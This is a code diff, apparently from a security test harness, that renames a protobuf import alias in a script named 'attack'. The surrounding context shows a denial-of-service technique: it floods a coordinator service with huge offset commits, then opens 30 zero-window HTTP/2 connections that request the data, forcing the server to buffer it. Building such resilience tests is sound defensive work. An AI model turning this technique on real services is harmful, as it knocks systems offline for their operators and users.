@@ -10,7 +10,7 @@ from abuse.caller import GROUPS, commit, connection, groups_stub
 from abuse.http2 import Connection
 from abuse.lab import Target, begins, stage
 from kit.programs import Broken
-from muster_protos.muster.v1 import coordinator_pb2 as pb
+from muster_protos.muster.v1 import coordinator_pb2
 
 CALLS = 30
 PARTITIONS = 900
@@ -24,7 +24,7 @@ async def prepare(target: Target, prefix: str = "unread") -> str:
     async with connection(target.owner) as channel:
         for part in range(COMMITS):
             partitions = [
-                pb.OffsetCommitRequest.Partition(
+                coordinator_pb2.OffsetCommitRequest.Partition(
                     partition=part * PARTITIONS + number, offset=1, metadata="m" * 4_000
                 )
                 for number in range(PARTITIONS)
@@ -37,7 +37,9 @@ async def attack(target: Target) -> str:
     group_id = await prepare(target)
     await asyncio.sleep(1)
     begins()
-    request = pb.OffsetFetchRequest(groups=[pb.OffsetFetchRequest.Group(group_id=group_id)])
+    request = coordinator_pb2.OffsetFetchRequest(
+        groups=[coordinator_pb2.OffsetFetchRequest.Group(group_id=group_id)]
+    )
     callers = [Connection(target.owner, window=0) for _ in range(CALLS)]
     for caller in callers:
         caller.open(GROUPS + "OffsetFetch", request.SerializeToString())
